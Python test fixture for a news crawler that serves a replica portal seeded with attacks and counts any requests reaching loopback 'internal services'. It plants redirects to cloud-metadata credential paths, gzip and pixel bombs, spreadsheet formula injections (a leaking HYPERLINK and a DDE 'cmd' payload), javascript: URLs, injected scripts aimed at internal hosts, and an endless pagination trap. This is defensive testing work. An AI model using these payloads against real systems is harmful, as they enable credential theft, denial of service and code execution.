"""The replica, compromised: each attack a defaced portal can make on the crawler, planted on its own article.

`HostilePortal` serves both portals (a small replica, no faults) with the cases of issue 24
planted, and runs two "internal services" on loopback that count every connection they get:
one on another address (127.0.0.2) and one on another port of 127.0.0.1. The crawler must send
them nothing, and account for every listed article (stored, or rejected naming its URL).

Every other host here is loopback: no link-local, private or real address is named, not even
as a redirect target the crawler is expected to refuse.
"""

from __future__ import annotations

import gzip
import html
import re
import socketserver
import struct
import threading
import zlib
from collections.abc import Callable
from dataclasses import dataclass, replace
from functools import cache
from urllib.parse import parse_qs, quote, urlsplit

from . import render
from .corpus import CITY, CITY_ORIGIN, POLICE, Article
from .server import Answer, Replica, ReplicaOptions

# Text a defaced page plants for the analysts: each a formula in a spreadsheet, or live HTML in a chart.
FORMULA_TITLE = '=HYPERLINK("http://127.0.0.2/?leak="&A2,"Bấm để xem")'
FORMULA_AUTHOR = '=HYPERLINK("http://127.0.0.2/","MINH PHƯƠNG")'
FORMULA_SOURCE = "Nguồn: =cmd|' /C calc'!A0"
HTML_NAME = '<a href="http://127.0.0.2/phish">Bấm vào đây</a>'
ENDLESS_CATEGORY = "van-hoa-xa-hoi"  # its pages go on forever past the last, repeating it
REDIRECTED_CATEGORY = "Xay-dung-luc-luong"  # the police category page answers 302 to an internal service
SCRIPTED_CATEGORY = "Tin-An-ninh-trat-tu"  # the police category page frames, fetches and preloads from them
GZIP_BOMB_BYTES = 64 * 1024 * 1024  # inflates to four times the crawl's DOWNLOAD_MAXSIZE
DEEP = 1500  # elements nested in one article body (Python's recursion limit is 1,000)


class CountingService:
    """An 'internal service' on loopback: every connection it accepts is counted, with its first line."""

    def __init__(self, host: str) -> None:
        self.requests: list[str] = []
        hits = self.requests

        class Handler(socketserver.StreamRequestHandler):
            timeout = 5

            def handle(self) -> None:
                try:
                    line = self.rfile.readline(4096).decode("latin-1").strip()
                except OSError:
                    line = ""
                hits.append(line or "(connection)")
                self.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 36\r\nConnection: close\r\n\r\n"
                                 b"AKIA-SECRET-OF-THE-INTERNAL-SERVICE\n")

        class Server(socketserver.ThreadingTCPServer):
            daemon_threads = True
            allow_reuse_address = True

        self.server = Server((host, 0), Handler)
        self.url = "http://{}:{}".format(*self.server.server_address[:2])
        threading.Thread(target=self.server.serve_forever, name=f"internal-{host}", daemon=True).start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@dataclass(frozen=True)
class Case:
    """One planted attack: the article it is planted on, and what must become of that article."""

    name: str
    key: str  # the article's record id
    url: str  # its public URL (as listed)
    outcome: str  # "stored", or the beginning of the reason its reject must give


@cache
def pixel_bomb_png(width: int = 13_000, height: int = 13_000) -> bytes:
    """A PNG whose header claims 169 megapixels (Pillow would inflate it to 169 MB); a few bytes of data follow."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 4096)) + chunk(b"IEND", b"")


@cache
def gzip_bomb() -> bytes:
    """About 64 KB of gzip that inflates to 64 MB of spaces."""
    return gzip.compress(b" " * GZIP_BOMB_BYTES, compresslevel=9)


class HostilePortal:
    """Both portals, compromised, and the internal services they point at. A context manager."""

    def __init__(self, articles_per_site: int = 60) -> None:
        self.internal = CountingService("127.0.0.2")
        self.internal_port = CountingService("127.0.0.1")  # another port of the replica's own address
        self.replica = Replica(ReplicaOptions(articles_per_site=articles_per_site, fault_rate=0.0, hostile=True),
                               intercept=self.answer)
        self.cases: dict[str, Case] = {}
        self.planted: dict[str, str] = {}  # article path → case name
        self.articles: dict[str, Article] = {}  # article path → the article planted on
        self._plant()

    # Planning ---------------------------------------------------------------------------

    def _plain(self, site: str) -> list[Article]:
        corpus = self.replica.corpus
        originals = {a.duplicate_of for items in corpus.articles.values() for a in items if a.duplicate_of}
        hostile = self.replica.hostile_article()
        return sorted((a for a in corpus.articles[site] if not (a.verbatim_page or a.fault or a.duplicate_of or a.url_variant
                                                                 or a.key in originals or a is hostile or a.removed)),
                      key=lambda a: int(a.native_id))

    def _plant(self) -> None:
        internal, other_port = self.internal.url, self.internal_port.url
        city = [
            ("qr_internal", f"offsite_request:{internal} (its QR image)"),
            ("qr_redirect", f"offsite_redirect:{other_port} (its QR image)"),
            ("qr_pixel_bomb", "image_too_large (its QR image)"),
            ("article_redirect", f"offsite_redirect:{internal}"),
            ("meta_refresh", f"offsite_redirect:{other_port}"),
            ("gzip_bomb", "too_large"),
            ("deep_body", ""),  # stored, or a reject naming the failure: never lost, never the run
            ("canonical_javascript", "stored"),
            ("formulas", "stored"),
            ("html_names", "stored"),
        ]
        police = [
            ("police_redirect", f"offsite_redirect:{internal}"),
            ("police_meta_refresh", f"offsite_redirect:{other_port}"),
        ]
        for site, plan in ((CITY, city), (POLICE, police)):
            candidates = [a for a in self._plain(site) if site == CITY or a.categories[0] != REDIRECTED_CATEGORY]
            for article, (name, outcome) in zip(candidates, plan, strict=False):
                self.cases[name] = Case(name, article.key, article.url, outcome)
                self.planted[article.path] = name
                self.articles[article.path] = article

    # Serving ----------------------------------------------------------------------------

    def answer(self, site: str, target: str, routed: Callable[[], Answer]) -> Answer | None:
        """The hostile answer for a request, or None for the replica's own (`routed` gives that)."""
        parts = urlsplit(target)
        path, query = parts.path, parse_qs(parts.query)
        if site == CITY:
            if path == "/wp-content/plugins/hp-qr-code/qr.php" and "hostile" in query:
                return self._qr(query["hostile"][0])
            if (page := _endless_page(path)) is not None:
                return self._endless(page)
        elif path == f"/{REDIRECTED_CATEGORY}.html":
            return Answer(status=302, headers={"Location": self.internal.url + "/admin/"}, body="")
        elif path == f"/{SCRIPTED_CATEGORY}.html":
            return self._scripted(routed())
        planted = path.rstrip("/") if site == CITY else path  # a city article may be asked for with a trailing slash
        if (name := self.planted.get(planted)) is None:
            return None
        return self._article(name, self.articles[planted])

    def _scripted(self, answer: Answer) -> Answer:
        """The category page (not the browser check) with a frame, scripts, a fetch, a preload and a worker aimed inside."""
        page = answer.body.decode("utf-8") if isinstance(answer.body, bytes) else answer.body
        if "data-cat=" not in page:
            return answer
        internal, other_port = self.internal.url, self.internal_port.url
        planted = (f'<iframe src="{other_port}/frame.html" width="1" height="1"></iframe>\n'
                   f'<script src="{internal}/steal.js"></script>\n'
                   f'<link rel="preload" href="{internal}/preload" as="fetch" crossorigin>\n'
                   f'<script>fetch("{internal}/latest/meta-data/").catch(function () {{}});'
                   f'navigator.sendBeacon && navigator.sendBeacon("{other_port}/beacon", "x");'
                   f'try {{ new Worker("data:text/javascript,fetch(\'{other_port}/worker\')"); }} catch (e) {{}}</script>\n')
        return replace(answer, body=page.replace("</body>", planted + "</body>", 1))

    def _qr(self, kind: str) -> Answer:
        if kind == "redirect":
            return Answer(status=302, headers={"Location": self.internal_port.url + "/latest/meta-data/"}, body="")
        return Answer(body=pixel_bomb_png(), content_type="image/png")

    def _article(self, name: str, article: Article) -> Answer:
        internal, other_port = self.internal.url, self.internal_port.url
        if name in ("article_redirect", "police_redirect"):
            return Answer(status=302, headers={"Location": internal + "/latest/meta-data/iam/security-credentials/"}, body="")
        if name == "gzip_bomb":
            return Answer(body=gzip_bomb(), headers={"Content-Encoding": "gzip"})
        if article.site == POLICE:
            page = render.police_article(article)
            if name == "police_meta_refresh":
                page = re.sub(r"<head[^>]*>", lambda m: f'{m[0]}\n<meta http-equiv="refresh" content="0;url={other_port}/internal/">', page, count=1)
            return Answer(body=page)
        if name == "formulas":
            article = replace(article, title=FORMULA_TITLE, author=FORMULA_AUTHOR, source_line=FORMULA_SOURCE)
        if name == "html_names":
            article = replace(article, author=HTML_NAME)
        page = render.city_article(article)
        qr = f"{CITY_ORIGIN}/wp-content/plugins/hp-qr-code/qr.php?size=150&amp;data={quote(article.url, safe='')}"
        if name == "qr_internal":
            page = page.replace(qr, internal + "/latest/meta-data/iam/security-credentials/crawler")
        elif name == "qr_redirect":
            page = page.replace(qr, qr + "&amp;hostile=redirect")
        elif name == "qr_pixel_bomb":
            page = page.replace(qr, qr + "&amp;hostile=pixels")
        elif name == "meta_refresh":
            page = page.replace("<head>", f'<head>\n<meta http-equiv="refresh" content="0;url={other_port}/internal/">', 1)
        elif name == "deep_body":
            page = page.replace('<div class="entry-content">', '<div class="entry-content">\n' + "<div>" * DEEP + "<p>Sâu.</p>"
                                + "</div>" * DEEP, 1)
        elif name == "canonical_javascript":
            page = (page.replace(f'<link rel="canonical" href="{article.url}" />', '<link rel="canonical" href="javascript:alert(document.domain)" />')
                    .replace(f'<meta property="og:url" content="{article.url}" />', '<meta property="og:url" content="javascript:alert(1)" />'))
        elif name == "html_names":
            first = article.categories[0]
            page = page.replace(f'rel="category tag">{render.CITY_CATEGORIES[first]}</a>', f'rel="category tag">{html.escape(HTML_NAME)}</a>')
        return Answer(body=page, last_modified=article.modified or article.published)

    def _endless(self, page: int) -> Answer | None:
        """From its last page on, the category goes on: each page repeats the last one and links the next."""
        last = self._last_page(ENDLESS_CATEGORY)
        if page < last:
            return None
        body = render.city_category(self.replica.corpus, ENDLESS_CATEGORY, last) or ""
        following = f"{CITY_ORIGIN}/category/{ENDLESS_CATEGORY}/page/{page + 1}"
        return Answer(body=body.replace("</nav>", f'<a class="next page-numbers" href="{following}">Sau</a></nav>', 1))

    def _last_page(self, slug: str) -> int:
        page = 1
        while render.city_category(self.replica.corpus, slug, page + 1):
            page += 1
        return page

    def endless_pages_served(self) -> int:
        """How many listing pages of the endless category were asked for, its real ones included."""
        prefix = f"/category/{ENDLESS_CATEGORY}"
        return sum(1 for site, path, _ in self.replica.state.log if site == CITY and urlsplit(path).path.rstrip("/").startswith(prefix)
                   and "/feed" not in path)

    def internal_requests(self) -> list[str]:
        """Everything the internal services and the replica's other host were sent."""
        offsite = self.replica.offsite.requests if self.replica.offsite else []
        return [*self.internal.requests, *self.internal_port.requests, *offsite]

    def __enter__(self) -> HostilePortal:
        self.replica.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.replica.stop()
        self.internal.stop()
        self.internal_port.stop()


def _endless_page(path: str) -> int | None:
    prefix = f"/category/{ENDLESS_CATEGORY}/page/"
    if path.startswith(prefix) and path[len(prefix):].rstrip("/").isdigit():
        return int(path[len(prefix):].rstrip("/"))
    return None
